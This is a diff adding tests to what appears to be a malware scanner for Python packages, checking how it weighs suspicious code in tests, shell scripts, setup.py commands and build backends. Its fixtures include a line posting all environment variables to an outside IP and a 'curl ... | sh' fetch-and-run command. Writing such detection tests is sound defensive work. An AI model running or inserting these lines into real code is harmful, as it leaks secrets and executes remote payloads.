@@ -37,6 +37,35 @@ describe('archive anomalies become findings', () => {
   });
 });
 
+describe('auxiliary files', () => {
+  const exfil = lines('import os, requests', "requests.post('http://203.0.113.5/c', json=dict(os.environ))");
+
+  it('tests, and scripts outside any package, weigh a quarter', async () => {
+    const r = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/tests/test_x.py': exfil, 'demo-1.0/ci/upload.py': exfil });
+    expect(rulesOf(r)).toContain('exfiltrate-sensitive-data');
+    // exfiltrate-sensitive-data 10 and hardcoded-ip 3 at a quarter each, and no pair bonus in tests.
+    expect(r.score).toBe(3.3);
+    expect(r.verdict).toBe('clean');
+  });
+
+  it('a payload in tests/ that the package imports counts in full', async () => {
+    const r = await scan({
+      'demo-1.0/demo/__init__.py': lines('from demo.tests import helper'),
+      'demo-1.0/demo/tests/__init__.py': '',
+      'demo-1.0/demo/tests/helper.py': exfil,
+    });
+    expect(r.verdict).toBe('malicious');
+  });
+
+  it('a shell script weighs a quarter unless the package runs it', async () => {
+    const sh = lines('curl -s http://203.0.113.5/x | sh');
+    const alone = await scan({ 'demo-1.0/demo/__init__.py': '', 'demo-1.0/build.sh': sh });
+    expect(alone.verdict).toBe('clean');
+    const run = await scan({ 'demo-1.0/setup.py': lines('import subprocess', "subprocess.call(['sh', 'build.sh'])"), 'demo-1.0/build.sh': sh });
+    expect(run.verdict).not.toBe('clean');
+  });
+});
+
 describe('roles and phases', () => {
   it('setup.py in an sdist runs at install; in a wheel it does not', async () => {
     const code = lines('import urllib.request', "urllib.request.urlopen('https://example.org/x')");
@@ -54,6 +83,34 @@ describe('roles and phases', () => {
     ]);
   });
 
+  it('setup.py commands an install runs are install-time code; a custom command is not', async () => {
+    const code = lines(
+      'import socket, subprocess',
+      'from setuptools import setup, Command',
+      'from setuptools.command.install import install',
+      'class Serve(Command):',
+      '    def run(self):',
+      "        socket.create_connection(('203.0.113.5', 9))",
+      'class Post(install):',
+      '    def run(self):',
+      '        helper()',
+      'def helper():',
+      "    socket.create_connection(('203.0.113.6', 9))",
+      "setup(cmdclass={'install': Post, 'serve': Serve})",
+    );
+    const r = await scan({ 'demo-1.0/setup.py': code });
+    expect(r.findings.filter((f) => f.rule === 'install-network').map((f) => f.line)).toEqual([11]);
+  });
+
+  it('a file setup.py runs with runpy is install-time code', async () => {
+    const r = await scan({
+      'demo-1.0/setup.py': lines('import runpy', "runpy.run_path('find_version.py')"),
+      'demo-1.0/find_version.py': lines('import urllib.request', "urllib.request.urlopen('http://203.0.113.5/x')"),
+    });
+    expect(rulesOf(r)).not.toContain('install-exec');
+    expect(r.findings.find((f) => f.rule === 'install-network')).toMatchObject({ file: 'demo-1.0/find_version.py', phase: 'install' });
+  });
+
   it('in-tree build backend modules are install-time code', async () => {
     const r = await scan({
       'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["_build"]'),
@@ -61,6 +118,16 @@ describe('roles and phases', () => {
     });
     expect(r.findings.find((f) => f.rule === 'install-network')).toMatchObject({ file: 'demo-1.0/_build/backend.py', phase: 'install' });
     expect(r.findings.find((f) => f.rule === 'build-backend-in-tree')).toMatchObject({ file: 'demo-1.0/pyproject.toml', line: 4 });
+  });
+
+  it("a build backend's hooks run at install; the rest of its package only when called", async () => {
+    const r = await scan({
+      'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "demo.build"', 'backend-path = ["."]'),
+      'demo-1.0/demo/__init__.py': '',
+      'demo-1.0/demo/build.py': lines('import urllib.request', 'def build_wheel(d, c=None, m=None):', "    urllib.request.urlopen('http://203.0.113.5/a')"),
+      'demo-1.0/demo/util.py': lines('import urllib.request', 'def refresh():', "    urllib.request.urlopen('http://203.0.113.5/b')"),
+    });
+    expect(r.findings.filter((f) => f.rule === 'install-network').map((f) => f.file)).toEqual(['demo-1.0/demo/build.py']);
   });
 
   it('Python files over the parse limit get text rules and an unscanned-source finding', async () => {
